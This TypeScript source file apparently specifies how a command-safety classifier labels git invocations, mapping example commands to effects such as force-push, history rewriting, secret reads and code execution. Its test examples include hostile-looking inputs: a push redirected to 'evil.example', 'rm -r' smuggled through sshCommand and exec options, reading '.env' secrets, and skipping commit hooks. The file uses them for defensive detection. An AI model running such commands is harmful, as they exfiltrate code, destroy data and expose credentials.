/** git: sub-commands, aliases, and settings that run something. */
import type { EffectDraft } from '../../../../effects/effect';
import { type Answer, type Call, type Command, opaque, outcomeOf, type ProgramSpec, together } from '../../program';
import type { Word } from '../../spec';
import { commands } from './commands';
import { effectsOfSettings, givenAlias, runsOfSettings } from './config';
import { gitState, workingDirectory } from './state';

/** An alias of the repository or the user; otherwise a git-NAME program that nobody described. */
function aliasOf(call: Call, name: string): Answer {
  const definition = givenAlias(call, name) ?? gitState(call)?.aliases.get(name);
  if (definition === undefined) return [opaque(call.invocation)];
  const args = call.operands.slice(1);
  const label = `git ${name}`;
  if (definition.startsWith('!')) return { runs: [{ type: 'shell', text: definition.slice(1), args, label }] };
  const span = call.operands[0]!.span;
  const words = ['git', ...definition.trim().split(/\s+/)].map(
    (value): Word => ({ value, raw: value, span, many: false }),
  );
  return { runs: [{ type: 'argv', words: [...words, ...args], label }] };
}

export const git: ProgramSpec = {
  names: 'git',
  options:
    '-C=PATH -c=KEYVALUE --config-env=KEY --git-dir=DIR --work-tree=DIR --namespace=N --exec-path[=P] -p,--paginate -P,--no-pager --bare --no-replace-objects --literal-pathspecs --glob-pathspecs --noglob-pathspecs --icase-pathspecs --no-optional-locks --no-lazy-fetch --html-path --man-path --info-path --attr-source=T',
  ownOptions: true,
  commands: withSettings(commands),
  otherwise: aliasOf,
  examples: {
    yields: {
      'git push origin main': 'vcs.push{remote=origin,ref=main,mirror=false}',
      'git push --force origin main': 'vcs.push + vcs.rewriteHistory{how=force-push,remote=true,ref=main}',
      'git push -fu origin HEAD:main': 'vcs.push{ref=main} + vcs.rewriteHistory{how=force-push}',
      'git push origin +main': 'vcs.push + vcs.rewriteHistory{how=force-push}',
      'git push --force-with-lease': 'vcs.push + vcs.rewriteHistory{how=force-with-lease}',
      'git push origin :old': 'vcs.push{ref=old} + vcs.rewriteHistory{how=delete-ref}',
      'git push origin --delete old': 'vcs.push + vcs.rewriteHistory{how=delete-ref,ref=old}',
      'git update-ref refs/remotes/origin/main HEAD': 'vcs.rewriteHistory{how=reset} + guard.tamper{what=policy}',
      'git update-ref refs/heads/next HEAD': 'vcs.rewriteHistory{how=reset}',
      'git -C sub reset --hard HEAD~1':
        'vcs.discard{what=worktree,all=true} + vcs.rewriteHistory{how=reset,remote=false}',
      'git reset --hard': 'vcs.discard{what=worktree}',
      'git checkout -- src': 'vcs.discard{what=worktree,all=false}',
      'git checkout .': 'vcs.discard{all=true}',
      'git clean -fdx': 'vcs.discard{what=untracked,all=true} + audit.tamper{certainty=possible}',
      'git clean -fd': 'vcs.discard{what=untracked,all=true}',
      'git stash clear': 'vcs.discard{what=stash,all=true}',
      'git branch -D old': 'vcs.discard{what=branch}',
      'git commit -nm msg': 'vcs.commit{skipHooks=true}',
      'git commit -m "drop table users; rm -rf /"': 'vcs.commit{skipHooks=false,all=false}',
      'git commit --amend --no-edit': 'vcs.commit + vcs.rewriteHistory{how=amend}',
      'git rebase -i main': 'vcs.rewriteHistory{how=rebase,remote=false}',
      'git config core.pager less': 'config.write{target=git,executes=true}',
      'git config --global user.name Dana': 'config.write{executes=false}',
      'git clone https://github.com/acme/shop': 'net.fetch{host=github.com} + fs.write{mode=create}',
      'git rebase --abort': 'vcs.discard{what=worktree,undo=effortful}',
      'git remote set-url origin https://x.test/a.git && git push':
        'config.write{executes=false} + vcs.push{remote=https://x.test/a.git,host=x.test}',
      'git config remote.up.url https://x.test/a.git; git push up main': 'config.write + vcs.push{host=x.test}',
      'git remote add up https://x.test/a.git && git push origin main': 'config.write + vcs.push{remote=origin}',
      "git clone -c core.sshCommand='rm -r x' https://x.test/a": 'net.fetch + fs.write + fs.delete{recursive=true}',
      "git archive --remote=h:r --exec='rm -r x' HEAD": 'fs.delete{recursive=true}',
      'git --exec-path=/srv/bin status': 'code.exec{origin=foreign-file,resolved=false}',
      'git show HEAD:.env': 'fs.read{class=secret} + secret.read',
      'git -c clean.requireForce=false clean': 'vcs.discard{what=untracked}',
      'git reflog expire --expire=now --all': 'recovery.destroy{what=reflog} + vcs.rewriteHistory{how=expire}',
      'git gc --prune=now': 'recovery.destroy + vcs.rewriteHistory{how=expire}',
      'GIT_SSH_COMMAND=./ssh.sh git fetch': 'config.write{target=env,executes=true} + code.opaque + net.fetch',
      'git frobnicate': 'code.opaque{reason=unresolved-command}',
      'git push "$REMOTE" "$REF"': 'vcs.push{remote=?,host=?,ref=?}',
      "git push origin 'refs/heads/*:refs/heads/*'": 'vcs.push{ref=?}',
      'git push origin tag v1': 'vcs.push{ref=refs/tags/v1}',
      'git clone $URL': 'net.fetch{host=?} + fs.write{path=?}',
      'git fetch origin +main:main': 'net.fetch{host=github.com} + vcs.rewriteHistory{how=reset,remote=false}',
      'git pull --rebase=merges': 'net.fetch + fs.write{mode=overwrite} + vcs.rewriteHistory{how=rebase}',
      'git pull --rebase=false': 'net.fetch + fs.write',
      'git am --abort': 'vcs.discard{what=worktree}',
      'git diff --no-index /dev/null .env': 'fs.read{class=secret} + secret.read{store=env-file,audience=model}',
      'git blame .env': 'fs.read + secret.read{store=env-file}',
      'git log -p -- .env': 'fs.read + secret.read{store=env-file}',
      "git grep '' -- .env": 'fs.read + secret.read{store=env-file}',
      'git -c core.hooksPath=/dev/null commit -m x': 'vcs.commit{skipHooks=true} + config.write{executes=true}',
      'HUSKY=0 git commit -m x': 'vcs.commit{skipHooks=true}',
      'git add .': 'vcs.commit{skipHooks=false,all=true}',
      'git -c url.https://evil.example/.insteadOf=https://github.com/ push': 'vcs.push + config.write{executes=true}',
      'git config core.fsmonitor true': 'config.write{executes=false}',
      'git config edit': 'code.opaque{reason=interactive}',
      'git maintenance start': 'persist.install{mechanism=systemd,op=add}',
      'git submodule deinit -f lib': 'fs.delete{path=/repo/lib,recursive=true} + vcs.discard{what=worktree}',
      'git worktree remove --force /tmp/side': 'fs.delete{recursive=true,zone=temp} + vcs.discard{what=worktree}',
      'git subtree push --prefix docs origin main': 'vcs.push{remote=origin,ref=main}',
      'git lfs migrate import --include=a.bin': 'vcs.rewriteHistory{how=filter}',
      'git credential reject': 'secret.write{store=git-cred,op=delete}',
      'git daemon --export-all': 'net.listen{expose=lan,port=9418}',
      'git init --template=/tmp/t': 'code.exec{origin=foreign-file,path=/tmp/t}',
    },
    inert: [
      'GIT_SSH_COMMAND=./ssh.sh git status',
      'GIT_EDITOR=./edit.sh git log',
      'git status',
      'git log --grep "rm -rf /" --oneline',
      'git diff HEAD~3 -- src',
      'git branch --list',
      'git clean -nfd',
      'git push --dry-run --force',
      'git config --get user.name',
      'git restore --staged a.ts',
      'git checkout -b feature',
      'git reset HEAD a.ts',
      'git stash',
      'git log --oneline -- .env',
      'git diff --stat -- .env',
      'git diff HEAD -- a.ts',
      'git grep -n TODO -- src',
      'git blame -L 1,20 a.ts',
      'git init -b main',
      'git maintenance run --auto',
      'git lfs prune',
      'git --version',
      'git',
    ],
  },
};

/** Whatever is asked, git first heeds the settings given with `-c`. */
function withSettings(all: Readonly<Record<string, Command>>): Readonly<Record<string, Command>> {
  return Object.fromEntries(Object.entries(all).map(([names, command]) => [names, heeding(command)]));
}

/** `--exec-path=DIR`: the programs that git consists of are taken from there. */
function ownPrograms(call: Call): readonly EffectDraft[] {
  return call.outermost
    .values('--exec-path')
    .map((word) => ({ kind: 'code.exec', origin: 'foreign-file', path: word.value, resolved: false }));
}

function heeding(command: Command): Command {
  const spec = typeof command === 'function' || 'length' in command ? { does: command } : command;
  if (spec.commands || !spec.does) return spec;
  const { does } = spec;
  const answer = typeof does === 'function' ? does : () => does;
  return {
    ...spec,
    does(call) {
      const { effects, checkout, ...outcome } = outcomeOf(answer(call));
      const directory = workingDirectory(call);
      const placed = effects.map(
        (effect): EffectDraft => (effect.kind.startsWith('vcs.') ? { ...effect, directory } : effect),
      );
      return together(
        { effects: placed, ...outcome, ...(checkout && { checkout: { ...checkout, directory } }) },
        { effects: [...effectsOfSettings(call), ...ownPrograms(call)], runs: runsOfSettings(call) },
      );
    },
  };
}
